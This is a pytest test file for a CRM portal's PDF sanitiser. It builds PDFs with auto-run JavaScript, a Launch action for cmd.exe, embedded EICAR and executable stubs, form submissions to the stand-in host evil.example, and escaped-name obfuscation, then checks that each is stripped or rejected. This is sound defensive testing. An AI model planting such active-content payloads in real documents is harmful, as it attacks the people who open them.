import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from reportlab.pdfgen.canvas import Canvas

from crm_portal.files.rules.archives import ends_as_zip
from crm_portal.files.rules.failures import Failure
from crm_portal.files.rules.kinds import Kind
from crm_portal.files.sanitising.pdf import FORBIDDEN, active_content
from tests.factories.files import EICAR, locked_pdf, office, pdf


def changed(change, original=None):
    """A PDF that a function of the open document changed."""
    whole = io.BytesIO()
    with pikepdf.open(io.BytesIO(original or pdf())) as document:
        change(document)
        document.save(whole)
    return whole.getvalue()


def script(document):
    return document.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert(1)")))


def annotation(document, **entries):
    rectangle = Array([10, 10, 100, 100])
    page = document.pages[0].obj
    made = document.make_indirect(Dictionary(Type=Name.Annot, Rect=rectangle, P=page, **entries))
    page.Annots = Array([*page.get("/Annots", []), made])
    return made


def on_opening(document):
    document.Root.OpenAction = script(document)


def in_the_name_tree(document):
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script(document)])))


def on_page_events(document):
    document.pages[0].obj.AA = Dictionary(O=script(document))
    document.Root.AA = Dictionary(WC=script(document))


def launching(document):
    action = Dictionary(S=Name.Launch, F=String("cmd.exe"), Next=script(document))
    annotation(document, Subtype=Name.Link, A=action)


def attached(document):
    document.attachments["eicar.com"] = pikepdf.AttachedFileSpec(document, EICAR)


def attached_to_an_annotation(document):
    stream = document.make_stream(b"MZ", Type=Name.EmbeddedFile)
    specification = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream))
    annotation(document, Subtype=Name.FileAttachment, FS=specification)
    document.Root.AF = Array([specification])


def rich_media(document):
    annotation(document, Subtype=Name.RichMedia, RichMediaContent=Dictionary(), RichMediaSettings=Dictionary())


def form_with_script(document):
    field = annotation(document, Subtype=Name.Widget, FT=Name.Tx, T=String("sum"), AA=Dictionary(K=script(document)))
    document.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=String("<xdp/>"), NeedAppearances=True)


def hidden_in_next(document):
    safe = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=Array([script(document)]))
    document.Root.Outlines = Dictionary(First=document.make_indirect(Dictionary(Title=String("x"), A=safe)))


def script_behind_a_javascript_address(document):
    annotation(document, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)")))


def submitting(document):
    annotation(document, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))


def submitting_as_one_of_several(document):
    several = Array([Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")), script(document)])
    page = Array([document.pages[0].obj, Name.Fit])
    annotation(document, Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=page, Next=several))


HOSTILE = [
    on_opening, in_the_name_tree, on_page_events, launching, attached, attached_to_an_annotation, rich_media,
    form_with_script, hidden_in_next, script_behind_a_javascript_address, submitting, submitting_as_one_of_several,
]  # fmt: skip


def everything(document):
    """All names and texts of all objects, by the library's own listing rather than by our walk."""
    return "\n".join(repr(found) for found in document.objects)


@pytest.mark.parametrize("change", HOSTILE, ids=lambda change: change.__name__)
def test_a_rebuilt_pdf_has_nothing_active_left_in_any_object(clean, change):
    copy = clean(Kind.PDF, changed(change))

    with pikepdf.open(copy) as document:
        written = everything(document)
        assert len(document.pages) == 1
        assert not list(active_content(document))
    for name in [*FORBIDDEN, "/SubmitForm", "javascript:", "app.alert", "cmd.exe", "EICAR", "/XFA"]:
        assert name not in written, name
    assert b"app.alert" not in copy.read_bytes()


@pytest.mark.parametrize("change", HOSTILE[:8], ids=lambda change: change.__name__)
def test_the_check_after_the_rebuild_finds_what_a_rebuild_would_have_left(change):
    with pikepdf.open(io.BytesIO(changed(change))) as document:
        assert set(active_content(document)) & FORBIDDEN


def test_names_written_with_escapes_are_found_too(clean):
    hidden = changed(on_opening).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/OpenAction", b"/Open#41ction")
    assert b"/JavaScript" not in hidden

    with pikepdf.open(clean(Kind.PDF, hidden)) as document:
        assert "app.alert" not in everything(document)


def test_what_a_reader_sees_stays(clean):
    whole = io.BytesIO()
    canvas = Canvas(whole)
    for number in (1, 2, 3):
        canvas.drawString(72, 700, f"page {number}: /JS /JavaScript /Launch are only words here")
        canvas.linkURL("https://www.gov.il/", (72, 600, 200, 620))
        canvas.bookmarkPage(f"p{number}")
        canvas.addOutlineEntry(f"page {number}", f"p{number}")
        canvas.showPage()
    canvas.save()

    with pikepdf.open(clean(Kind.PDF, whole.getvalue())) as document, pikepdf.open(whole) as original:
        assert len(document.pages) == 3
        assert document.pages[1].Contents.read_bytes() == original.pages[1].Contents.read_bytes()
        assert [str(page.Annots[0].A.URI) for page in document.pages] == ["https://www.gov.il/"] * 3
        assert "/Outlines" in document.Root


def test_a_font_that_happens_to_be_called_like_a_script_stays(clean):
    def rename(document):
        fonts = document.pages[0].Resources.Font
        fonts["/JS"] = fonts["/F1"]

    with pikepdf.open(clean(Kind.PDF, changed(rename))) as document:
        assert "/F1" in document.pages[0].Resources.Font or "/JS" in document.pages[0].Resources.Font


def test_a_filled_form_is_kept_as_page_content(clean):
    whole = io.BytesIO()
    canvas = Canvas(whole)
    canvas.acroForm.textfield(name="sum", value="1234", x=72, y=600, width=200, height=20)
    canvas.showPage()
    canvas.save()

    with pikepdf.open(clean(Kind.PDF, whole.getvalue())) as document:
        drawn = b"".join(form.read_bytes() for form in document.pages[0].Resources.XObject.values())
        assert b"1234" in drawn
        assert "/AcroForm" not in document.Root


def test_who_wrote_it_and_with_what_is_not_carried_along(clean):
    def tell(document):
        document.docinfo["/Author"] = "Dana Levi"
        with document.open_metadata() as metadata:
            metadata["dc:creator"] = ["Dana Levi"]

    copy = clean(Kind.PDF, changed(tell))

    with pikepdf.open(copy) as document:
        assert "Dana" not in everything(document)
        assert "/Metadata" not in document.Root


def test_a_pdf_that_needs_a_password_fails(clean):
    assert clean(Kind.PDF, locked_pdf()) is Failure.ENCRYPTED


def test_a_pdf_that_only_its_owner_protects_is_rebuilt_without_protection(clean):
    with pikepdf.open(clean(Kind.PDF, locked_pdf(password=""))) as document:
        assert not document.is_encrypted


@pytest.mark.parametrize(
    ("content", "failure"),
    [
        (b"%PDF-1.7\n" + b"garbage " * 50, Failure.UNREADABLE),
        (pdf()[:60], Failure.UNREADABLE),
        (b"MZ\x90\x00" + pdf(), Failure.MISMATCH),
        (b"<html><script>1</script>" + pdf(), Failure.MISMATCH),
        (pdf() + office(), Failure.POLYGLOT),
        (pdf() + EICAR, Failure.MALWARE),
    ],
    ids=["garbage", "cut off", "program in front", "page in front", "archive behind", "EICAR behind"],
)
def test_a_pdf_that_is_not_just_a_pdf_fails(clean, content, failure):
    assert clean(Kind.PDF, content) is failure


def test_a_form_whose_pages_only_its_program_draws_fails(clean):
    def dynamic(document):
        document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=String("<xdp/>"))
        document.Root.NeedsRendering = True

    assert clean(Kind.PDF, changed(dynamic)) is Failure.UNREADABLE


def test_what_was_appended_is_gone_after_the_rebuild(clean):
    copy = clean(Kind.PDF, pdf() + b"<script>alert(1)</script>")

    assert b"<script>" not in copy.read_bytes()
    assert not ends_as_zip(copy.read_bytes())


def test_a_script_that_bites_its_own_tail_is_no_endless_walk(clean):
    def circle(document):
        one, other = document.make_indirect(Dictionary()), document.make_indirect(Dictionary())
        one.Next, other.Next, one.S, other.S = other, one, Name.JavaScript, Name.GoTo
        annotation(document, Subtype=Name.Link, A=other)

    with pikepdf.open(clean(Kind.PDF, changed(circle))) as document:
        assert "/JavaScript" not in everything(document)
